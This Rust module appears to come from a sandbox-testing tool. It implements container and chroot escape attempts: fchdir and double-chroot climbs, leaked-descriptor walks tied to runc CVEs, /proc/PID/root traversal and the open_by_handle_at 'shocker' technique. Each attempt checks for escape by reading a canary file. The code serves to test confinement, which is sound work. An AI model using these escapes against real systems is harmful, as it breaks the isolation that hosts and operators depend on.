//! Escapes from the root directory. CANARY is a host path that does not exist inside; reaching it means being outside.

use super::Attempt;
use crate::report::{Stopped, Tried};
use crate::sys::{CWD, address, call, open, open_at, plain, raw, read_some, text};
use std::ffi::{CStr, CString};

pub const ATTEMPTS: &[Attempt] = &[
    Attempt {
        usage: "chroot-fchdir CANARY DIR",
        about: "the classic: keep the old root open, chroot below it, fchdir back, climb",
        run: fchdir,
    },
    Attempt {
        usage: "chroot-double CANARY DIR",
        about: "chroot twice, so that the working directory is above the root",
        run: double,
    },
    Attempt {
        usage: "descriptor-walk CANARY",
        about: "climb from every descriptor that was left open (CVE-2016-9962, CVE-2024-21626)",
        run: descriptors,
    },
    Attempt {
        usage: "climb CANARY FROM",
        about: "`..` from a directory that came from the host, up past the mount point",
        run: climb,
    },
    Attempt { usage: "covered-root", about: "a second mount at /, which `/..` would cross into", run: covered_root },
    Attempt {
        usage: "proc-root CANARY PID",
        about: "through /proc/PID/root and /proc/PID/cwd, which are links into another's root",
        run: proc_root,
    },
    Attempt {
        usage: "handle PATH",
        about: "name_to_handle_at: a handle is a name that no root directory bounds",
        run: handle,
    },
    Attempt {
        usage: "open-handle DIR",
        about: "open_by_handle_at on the made-up handle of the file system's root ('shocker')",
        run: open_handle,
    },
];

const UP: &CStr = c"..";

fn climb_and_read(canary: &CString) -> Tried {
    for _ in 0..32 {
        call(libc::SYS_chdir, &[UP.as_ptr().addr()])?;
    }
    let bytes = canary.as_bytes();
    let below = CString::new(bytes.strip_prefix(b"/").unwrap_or(bytes)).map_err(|_| Stopped::Usage("NUL"))?;
    Ok(read_some(&open(&below, libc::O_RDONLY)?)?)
}

fn fchdir(arguments: &[String]) -> Tried {
    let (canary, dir) = (text(arguments, 0)?, text(arguments, 1)?);
    let old = open(&CString::from(c"/"), libc::O_RDONLY | libc::O_DIRECTORY)?;
    call(libc::SYS_chroot, &[address(&dir)])?;
    call(libc::SYS_fchdir, &[raw(&old)])?;
    climb_and_read(&canary)
}

fn double(arguments: &[String]) -> Tried {
    let (canary, dir) = (text(arguments, 0)?, text(arguments, 1)?);
    call(libc::SYS_chroot, &[address(&dir)])?;
    climb_and_read(&canary)
}

fn descriptors(arguments: &[String]) -> Tried {
    let canary = text(arguments, 0)?;
    let mut path = b"../../../../../../../../../../../../../../../..".to_vec();
    path.extend_from_slice(canary.as_bytes());
    let path = CString::new(path).map_err(|_| Stopped::Usage("NUL"))?;
    for fd in 0..1024 {
        if let Ok(found) = open_at(plain(fd), &path, libc::O_RDONLY, 0) {
            return Ok(format!("descriptor {fd}: {}", read_some(&found)?));
        }
    }
    Err(Stopped::Absent("no descriptor leads there".into()))
}

fn climb(arguments: &[String]) -> Tried {
    let (canary, from) = (text(arguments, 0)?, text(arguments, 1)?);
    call(libc::SYS_chdir, &[address(&from)])?;
    climb_and_read(&canary)
}

fn covered_root(_: &[String]) -> Tried {
    let mounts = std::fs::read_to_string("/proc/self/mountinfo")
        .map_err(|error| Stopped::from(error.raw_os_error().unwrap_or(0)))?;
    let roots: Vec<&str> = mounts.lines().filter(|line| line.split(' ').nth(4) == Some("/")).collect();
    if roots.len() == 1 { Err(Stopped::Absent("one root".into())) } else { Ok(roots.join("; ")) }
}

fn proc_root(arguments: &[String]) -> Tried {
    let (canary, pid) = (text(arguments, 0)?, text(arguments, 1)?);
    let mut last = Stopped::Absent("no such process".into());
    for link in ["root", "cwd", "cwd/../../../../../../../.."] {
        let path = format!("/proc/{}/{link}{}", pid.to_string_lossy(), canary.to_string_lossy());
        let path = CString::new(path).map_err(|_| Stopped::Usage("NUL"))?;
        match open(&path, libc::O_RDONLY) {
            Ok(found) => return Ok(read_some(&found)?),
            Err(errno) => last = errno.into(),
        }
    }
    Err(last)
}

/// `struct file_handle` with room for the largest handle.
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

fn handle(arguments: &[String]) -> Tried {
    let path = text(arguments, 0)?;
    let mut handle = Handle { bytes: 128, kind: 0, data: [0; 128] };
    let mut mount = 0_i32;
    call(libc::SYS_name_to_handle_at, &[CWD, address(&path), (&raw mut handle).addr(), (&raw mut mount).addr(), 0])?;
    Ok(format!("a handle of {} bytes of type {}", handle.bytes, handle.kind))
}

fn open_handle(arguments: &[String]) -> Tried {
    let dir = open(&text(arguments, 0)?, libc::O_RDONLY | libc::O_DIRECTORY)?;
    // FILEID_INO32_GEN of inode 2, generation 0: the root of an ext4.
    let mut handle = Handle { bytes: 8, kind: 1, data: [0; 128] };
    handle.data[0] = 2;
    match call(libc::SYS_open_by_handle_at, &[raw(&dir), (&raw const handle).addr(), 0]) {
        // The call looked for the file: only the handle was wrong, not the right to use one.
        Err(libc::ESTALE) => Ok("handles are looked up".into()),
        other => other.map(|_| "opened".into()).map_err(Stopped::from),
    }
}
